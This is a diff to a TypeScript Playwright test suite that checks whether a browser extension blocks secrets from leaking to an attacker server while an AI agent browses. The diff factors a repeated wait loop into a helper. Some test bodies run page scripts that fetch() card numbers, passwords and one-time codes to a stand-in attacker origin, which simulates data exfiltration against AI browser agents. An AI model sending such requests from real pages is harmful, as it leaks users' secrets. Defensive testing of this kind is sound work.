@@ -162,6 +162,15 @@ async function taintRecorded(browser: AgentBrowser, secret: Secret): Promise<voi
   throw new Error('the network floor never received the secret shown on the page');
 }
 
+/** Waits until the floor's taint holds `urlFilter` (what the page showed or the agent typed); at once without the extension. */
+async function floorHolds(browser: AgentBrowser, urlFilter: string, what: string): Promise<void> {
+  if (browser.extensionId === null) return;
+  for (const deadline = Date.now() + 15_000; Date.now() < deadline; await sleep(100)) {
+    if ((await browser.floorRules()).some((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter === urlFilter)) return;
+  }
+  throw new Error(`the floor never received ${what}`);
+}
+
 /** Runs one attack in a fresh page showing a fresh secret; true when the attacker's server saw it. */
 async function runAttack(browser: AgentBrowser, attack: Attack): Promise<boolean> {
   const id = `x${++caseNumber}`;
@@ -408,14 +417,7 @@ test.describe('shown values with spaces or an @, percent-encoded in a URL', () =
     server.setPage(`/show/${id}`, `<!doctype html><p>Card: ${VALUES.card}</p><p>IBAN: ${VALUES.iban}</p><p>Contact: ${VALUES.email}</p>`);
     const page = await browser.context.newPage();
     await page.goto(`${server.origin(HOME)}/show/${id}`);
-    if (browser.extensionId !== null) {
-      const deadline = Date.now() + 15_000;
-      const recorded = async () => (await browser.floorRules()).some((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter === '4111111111111111');
-      while (!(await recorded())) {
-        if (Date.now() > deadline) throw new Error('the floor never received the shown values');
-        await sleep(100);
-      }
-    }
+    await floorHolds(browser, '4111111111111111', 'the shown values');
     const attacker = server.origin(ATTACKER);
     await page.evaluate(
       ({ attacker, id, values }) => {
@@ -469,14 +471,7 @@ test.describe('a secret typed into an unnamed site, reading open', () => {
     await page.goto(`${server.origin(ATTACKER)}/login/${id}`);
     await page.fill('input[name=pw]', PASSWORD);
     await page.fill('input[name=otp]', CODE);
-    if (browser.extensionId !== null) {
-      const deadline = Date.now() + 15_000;
-      const recorded = async () => (await browser.floorRules()).some((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter === 'Tr0ub4dor');
-      while (!(await recorded())) {
-        if (Date.now() > deadline) throw new Error('the floor never received the typed password');
-        await sleep(100);
-      }
-    }
+    await floorHolds(browser, 'Tr0ub4dor', 'the typed password');
     await page.evaluate(
       ({ id, pw, code }) => {
         void fetch(`/${id}/fetch/x?p=${pw}&o=${code}`).catch(() => undefined);
